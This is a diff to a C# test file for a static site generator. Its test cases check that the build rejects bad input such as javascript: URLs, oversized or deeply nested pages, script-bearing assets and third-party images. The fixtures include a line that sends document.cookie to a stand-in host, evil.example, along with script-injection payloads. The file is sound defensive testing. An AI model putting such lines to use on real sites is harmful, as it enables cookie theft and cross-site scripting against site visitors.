@@ -59,7 +59,7 @@ public static class BadInputCases
         // Names that try to leave the site.
         Fails("file name that is not a slug", "input/en/pages/two words.md", Page("title: Bad"), null, "slug"),
         Fails("page in an unknown folder", "input/en/secrets/bad.md", Page("title: Bad"), 1, "pages live in"),
-        Warns("language folder not in site.yml", site => site.Write("input/fr/pages/about.md", Page("title: À propos")), "input/fr", "is ignored"),
+        Custom("language folder not in site.yml", site => site.Write("input/fr/pages/about.md", Page("title: À propos")), 1, "input/fr", null, "add `fr` to `languages:` in site.yml"),
 
         // Link fields.
         Fails("javascript url in homepage", Project, Page("title: Bad\nmaturity: sandbox\ncategory: service-mesh\nhomepage: javascript:alert(1)"), 5, "http(s) URL"),
@@ -78,11 +78,8 @@ public static class BadInputCases
         FailsBytes("invalid utf-8", Project, [.. Encoding.UTF8.GetBytes("---\ntitle: Bad\nmaturity: sandbox\ncategory: service-mesh\n---\nHello "), 0xC3, 0x28, .. Encoding.UTF8.GetBytes(" world\n")], 6, "UTF-8"),
 
         // Size and depth.
-        // Refused by the template engine's 16 MB output limit: the message names the layout and the page URL, not the markdown file.
-        Fails("a 20 MB page", "input/en/pages/huge.md", Page("title: Huge", string.Concat(Enumerable.Repeat("Cloud native words make a very long page indeed.\n\n", 20 * 1024 * 1024 / 50))), null, "/pages/huge/") with
-        {
-            Path = "themes/default/layouts/page.scriban",
-        },
+        // Refused by the loader before any parsing or rendering, at the page's own path.
+        Fails("a 20 MB page", "input/en/pages/huge.md", Page("title: Huge", string.Concat(Enumerable.Repeat("Cloud native words make a very long page indeed.\n\n", 20 * 1024 * 1024 / 50))), 1, "MiB"),
         Accepts("10,000-deep nested lists", "input/en/pages/lists.md", Page("title: Lists", string.Concat(Enumerable.Range(0, 10_000).Select(i => new string(' ', Math.Min(i * 2, 40)) + "- item\n")))),
         Fails("10,000-deep nested quotes", "input/en/pages/quotes.md", Page("title: Quotes", new string('>', 10_000) + " deep"), 4, "nested too deeply"),
         Fails("10,000-deep nested front matter", Project, Page("title: " + new string('[', 10_000) + new string(']', 10_000)), 2, "nested"),
@@ -133,6 +130,18 @@ public static class BadInputCases
         Fails("site.yml that is not yaml", "input/site.yml", "title: { en: Test\nbaseUrl: [\n", null, "not valid YAML"),
         Fails("site.yml without languages", "input/site.yml", "title: { en: Test KB }\nbaseUrl: https://kb.example.org/\ntheme: default\n", 1, "languages"),
         Fails("site.yml with a javascript base url", "input/site.yml", "title: { en: Test KB, zh: 测试 }\nbaseUrl: javascript:alert(1)\nlanguages:\n  - { code: en, name: English, locale: en-US }\n  - { code: zh, name: 中文, locale: zh-CN }\ntheme: default\n", 2, "baseUrl"),
+
+        // Assets: nothing that runs script on the site's origin, nothing that replaces the theme.
+        Fails("content asset replacing the theme's stylesheet", "input/assets/css/site.css", "body { display: none }\n", null, "theme"),
+        Fails("content asset replacing the theme's script", "input/assets/js/search.js", "fetch('https://evil.example/?c=' + document.cookie);\n", null, "replace the theme's file"),
+        Fails("html file in assets", "input/assets/demo/index.html", "<script>alert(1)</script>\n", null, "script"),
+        Fails("wasm file in assets", "input/assets/bin/app.wasm", "\0asm", null, "script"),
+        Accepts("svg image in assets", "input/assets/img/diagram.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n", (site, _) =>
+            Assert.True(File.Exists(site.Combine("output/assets/img/diagram.svg")))),
+
+        // Third-party hosts: the site loads nothing from them (CSP, mainland China).
+        Fails("image from another host", Post, Page("title: Bad\ndate: 2020-01-01", "Intro.\n\n![chart](https://cdn.example.org/chart.png)"), 7, "input/assets/"),
+        Accepts("link to another site", Post, Page("title: Fine\ndate: 2020-01-01", "See [the docs](https://linkerd.io/docs/).")),
 
         // Symbolic links.
         Warns("symlink loop in input", site => Directory.CreateSymbolicLink(site.Combine("input/en/pages/loop"), site.Combine("input/en")), "input/en/pages/loop", "not followed"),
